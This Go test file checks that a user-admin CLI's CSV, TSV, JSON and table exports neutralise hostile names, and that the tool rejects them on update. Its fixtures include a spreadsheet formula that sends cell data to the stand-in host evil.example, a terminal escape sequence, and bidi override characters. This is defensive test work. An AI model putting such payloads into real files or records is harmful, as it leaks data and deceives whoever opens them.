package commands

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/b2badmin/b2badmin/internal/fixture"
	"github.com/b2badmin/b2badmin/internal/pgtest"
	"github.com/b2badmin/b2badmin/output"
)

// Names come from self-registration on the web side, where anyone can
// type a formula or a terminal escape. On main -o csv|tsv wrote
// =HYPERLINK(...) as is and passed ESC/BEL through: exports now
// neutralise formulas and escape control characters (--raw turns both
// off), JSON escapes every control character and decodes to the stored
// value, and the tool itself refuses such names.
func TestHostileNamesInExports(t *testing.T) {
	dsn := pgtest.NewDatabase(t)
	conn := fixture.Conn(t, dsn)
	formula := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	escape := "Eve\x1b]0;pwned\x07\x1b[31m"
	fixture.AddUser(t, conn, fixture.User{Email: "eve@example.com", FirstName: formula, LastName: escape, Phone: "+442079460958"})
	list := []string{"users", "list", "--columns", "first_name,last_name,phone"}

	csvOut := mustRun(t, dsn, append(list, "-o", "csv")...).Stdout
	recs, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv %q: %v", csvOut, err)
	}
	if got := recs[1]; got[0] != "'"+formula || got[1] != `Eve\x1b]0;pwned\x07\x1b[31m` || got[2] != "+442079460958" {
		t.Fatalf("csv row %q", got)
	}
	tsvOut := mustRun(t, dsn, append(list, "-o", "tsv", "--no-headers")...).Stdout
	f := strings.Split(strings.TrimSuffix(tsvOut, "\n"), "\t")
	if strings.ContainsAny(tsvOut, "\x1b\x07") || output.TSVUnescape(f[0]) != "'"+formula || output.TSVUnescape(f[1]) != escape {
		t.Fatalf("tsv %q", tsvOut)
	}
	raw := mustRun(t, dsn, append(list, "-o", "csv", "--raw")...).Stdout
	if recs, _ := csv.NewReader(strings.NewReader(raw)).ReadAll(); len(recs) != 2 || recs[1][0] != formula || recs[1][1] != escape {
		t.Fatalf("--raw csv %q", raw)
	}
	for _, fm := range []string{"json", "jsonl", "table"} {
		out := mustRun(t, dsn, append(list, "-o", fm)...).Stdout
		if strings.ContainsAny(out, "\x1b\x07") {
			t.Fatalf("-o %s: control characters reached stdout: %q", fm, out)
		}
	}
	var rows []struct {
		FirstName string `json:"first_name"`
		LastName  string `json:"last_name"`
	}
	if err := json.Unmarshal([]byte(mustRun(t, dsn, append(list, "-o", "json")...).Stdout), &rows); err != nil || rows[0].FirstName != formula || rows[0].LastName != escape {
		t.Fatalf("json does not decode to the stored values: %v %+v", err, rows)
	}
	if show := mustRun(t, dsn, "users", "show", "eve@example.com", "-o", "json").Stdout; strings.ContainsAny(show, "\x1b\x07") {
		t.Fatalf("users show -o json: raw control characters")
	}

	// The tool itself takes none of them.
	for _, bad := range []string{"Ev\u202eil", "a\x1bb", "x\u2066y"} {
		r := runCLI(t, dsn, "users", "update", "eve@example.com", "--first-name", bad)
		assertOneLineError(t, r, ExitRefused)
	}
}
